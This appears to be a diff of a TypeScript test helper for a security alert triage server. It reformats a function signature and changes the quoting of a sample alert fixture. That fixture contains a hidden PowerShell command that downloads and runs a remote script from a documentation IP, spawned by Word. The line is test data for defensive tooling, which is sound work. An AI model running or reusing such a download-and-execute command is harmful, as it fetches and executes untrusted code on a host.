@@ -17,7 +17,11 @@ export interface TestServer {
   tokens: Record<'triage' | 'feedback' | 'approver' | 'otherApprover' | 'admin', string>;
   /** Every JSON log line the server wrote. */
   logs: string[];
-  request(method: string, path: string, init?: { token?: string; body?: unknown; rawBody?: string; headers?: Record<string, string> }): Promise<{ status: number; headers: Headers; json: any; text: string }>;
+  request(
+    method: string,
+    path: string,
+    init?: { token?: string; body?: unknown; rawBody?: string; headers?: Record<string, string> },
+  ): Promise<{ status: number; headers: Headers; json: any; text: string }>;
   close(): Promise<void>;
 }
 
@@ -90,11 +94,11 @@ export function sampleAlert(id: string, overrides: Record<string, unknown> = {})
       { kind: 'user', value: 'alice', role: 'actor' },
       {
         kind: 'process',
-        value: "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"",
+        value: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')"',
         role: 'actor',
         properties: {
           image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
-          commandLine: "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\"",
+          commandLine: 'powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/a.ps1\')"',
           parentImage: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
         },
       },
